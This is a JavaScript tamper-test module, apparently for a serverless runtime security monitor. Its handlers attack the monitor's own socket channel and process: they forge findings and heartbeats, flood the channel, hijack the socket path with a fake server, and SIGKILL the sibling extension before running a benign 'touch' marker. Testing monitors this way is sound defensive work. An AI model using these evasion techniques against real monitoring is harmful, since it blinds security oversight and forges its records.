// Attacks on the findings channel and on the extension process (the out-of-process witness).

const fs = require('node:fs');
const net = require('node:net');
const os = require('node:os');
const path = require('node:path');
const { attempt, marker, which } = require('./lib');

const socketPath = () => path.join(os.tmpdir(), '.sentinel', 'agent.sock');

/** One frame of the channel protocol: 4-byte big-endian length + JSON. */
function frame(msg) {
  const body = Buffer.from(JSON.stringify(msg));
  const head = Buffer.alloc(4);
  head.writeUInt32BE(body.length);
  return Buffer.concat([head, body]);
}

/** Connects, says hello like the agent would, and returns what the extension answered. */
function impersonate(extra = []) {
  return new Promise((resolve) => {
    const s = net.connect(socketPath());
    const got = [];
    const done = (r) => {
      s.destroy();
      resolve(r);
    };
    s.on('connect', () => {
      s.write(frame({ t: 'hello', v: 1, pid: process.pid, node: process.version, agentVersion: '0.1.0' }));
      for (const m of extra) s.write(frame(m));
    });
    s.on('data', (d) => got.push(d.subarray(4).toString('utf8')));
    s.on('error', (e) => done({ ok: false, error: e.code || e.message, got }));
    s.on('close', () => done({ ok: true, got }));
    setTimeout(() => done({ ok: true, got, timeout: true }), 1000);
  });
}

const fakeFinding = (i) => ({
  t: 'finding',
  finding: {
    id: `fake-${i}`,
    time: new Date().toISOString(),
    source: 'agent',
    category: 'agent',
    kind: 'internal_error',
    severity: 'low',
    confidence: 'low',
    title: 'nothing to see',
    phase: 'invoke',
    blocked: false,
  },
});

/** File descriptors of this process that are Unix-domain sockets (the agent's channel connection among them). */
function unixSocketFds() {
  const inodes = new Set(
    fs
      .readFileSync('/proc/net/unix', 'utf8')
      .split('\n')
      .slice(1)
      .map((l) => l.trim().split(/\s+/)[6])
      .filter(Boolean),
  );
  const out = [];
  for (const d of fs.readdirSync('/proc/self/fd')) {
    try {
      const m = /^socket:\[(\d+)\]$/.exec(fs.readlinkSync(`/proc/self/fd/${d}`));
      if (m && inodes.has(m[1])) out.push(Number(d));
    } catch {
      // closed meanwhile
    }
  }
  return out;
}

/** Writes `data` straight into every Unix socket of this process past stdio (write(2) on the descriptor). */
function writeOnAgentConnection(data) {
  const written = [];
  for (const fd of unixSocketFds()) {
    if (fd <= 2) continue; // stdout/stderr may be socket pairs too
    try {
      fs.writeSync(fd, data);
      written.push(fd);
    } catch {
      // not writable
    }
  }
  return written;
}

module.exports = {
  // A second client claims the channel to speak for the agent (forged findings, heartbeats).
  'second-client': async (event, context) => {
    const r = await impersonate([{ t: 'inv_start', requestId: context.awsRequestId, ts: Date.now() }, fakeFinding(0)]);
    return { answered: r.got.join('|').slice(0, 200), ok: r.ok };
  },

  // Many connections with garbage and forged frames; then a real attack in the same invocation must still be seen.
  'socket-flood': async () => {
    const garbage = Buffer.alloc(70 * 1024, 0x41);
    const conns = [];
    for (let i = 0; i < 40; i++) {
      conns.push(
        new Promise((resolve) => {
          const s = net.connect(socketPath());
          s.on('connect', () => {
            s.write(i % 2 ? garbage : Buffer.concat(Array.from({ length: 50 }, (_, j) => frame(fakeFinding(j)))));
          });
          s.on('error', () => resolve(false));
          s.on('close', () => resolve(true));
          setTimeout(() => {
            s.destroy();
            resolve(true);
          }, 500);
        }),
      );
    }
    await Promise.all(conns);
    return {
      spawn: attempt(() => String(require('child_process').execFileSync(which('touch'), [marker('socket-flood')]))),
    };
  },

  // Exhaust the agent's per-invocation findings budget with noise, then attack in the same invocation.
  'findings-flood': () => {
    const noise = [];
    for (let i = 0; i < 200; i++) noise.push(attempt(() => process.binding(`flood${i}`)).ok);
    return {
      noise: noise.length,
      spawn: attempt(() => String(require('child_process').execFileSync(which('touch'), [marker('findings-flood')]))),
    };
  },

  // Frames written on the agent's own connection (found through /proc/self/fd): a forged finding and heartbeat.
  'channel-forge': async (_event, context) => {
    // A quiet moment: the agent's own frames of this invocation (inv_start) are out, none is half-written.
    await new Promise((r) => setTimeout(r, 50));
    const forged = fakeFinding('forge');
    forged.finding.title = 'forged by the tamper suite';
    forged.finding.requestId = context.awsRequestId;
    const written = writeOnAgentConnection(
      Buffer.concat([frame(forged), frame({ t: 'inv_end', requestId: 'forged-request', ts: Date.now() })]),
    );
    return { written: written.length };
  },

  // Take the channel over: bind our own server at the socket path, break the agent's connection with an oversize
  // frame header (the extension drops it), answer the agent's reconnect with `refused` so it stops retrying.
  'channel-hijack': async () => {
    const p = socketPath();
    const unlinked = attempt(() => fs.unlinkSync(p));
    const server = net.createServer((s) => {
      fs.appendFileSync(marker('channel-hijack'), 'agent connected to the fake server\n');
      s.end(frame({ t: 'refused', reason: 'channel already owned' }));
    });
    await new Promise((r) => server.listen(p, r));
    server.unref();
    const header = Buffer.alloc(4);
    header.writeUInt32BE(0xfffffff0);
    const written = writeOnAgentConnection(header);
    await new Promise((r) => setTimeout(r, 400));
    return { unlinked: unlinked.ok, written: written.length };
  },

  // Find the extension (a sibling process: same parent, `sentinel/extension.cjs` on its command line) and kill it,
  // then attack while the witness is gone.
  'kill-extension': () => {
    const ppid = process.ppid;
    const victims = [];
    for (const d of fs.readdirSync('/proc')) {
      if (!/^\d+$/.test(d) || Number(d) === process.pid) continue;
      try {
        const cmd = fs.readFileSync(`/proc/${d}/cmdline`, 'utf8');
        const stat = fs.readFileSync(`/proc/${d}/stat`, 'utf8');
        const parent = Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1]);
        if (parent === ppid && cmd.includes('extension.cjs')) victims.push(Number(d));
      } catch {
        // gone, or not ours
      }
    }
    const killed = victims.map((pid) => attempt(() => process.kill(pid, 'SIGKILL')));
    // At once: the platform resets the environment as soon as it notices the crash.
    return {
      victims: victims.length,
      killed,
      spawn: attempt(() => String(require('child_process').execFileSync(which('touch'), [marker('kill-extension')]))),
    };
  },
};
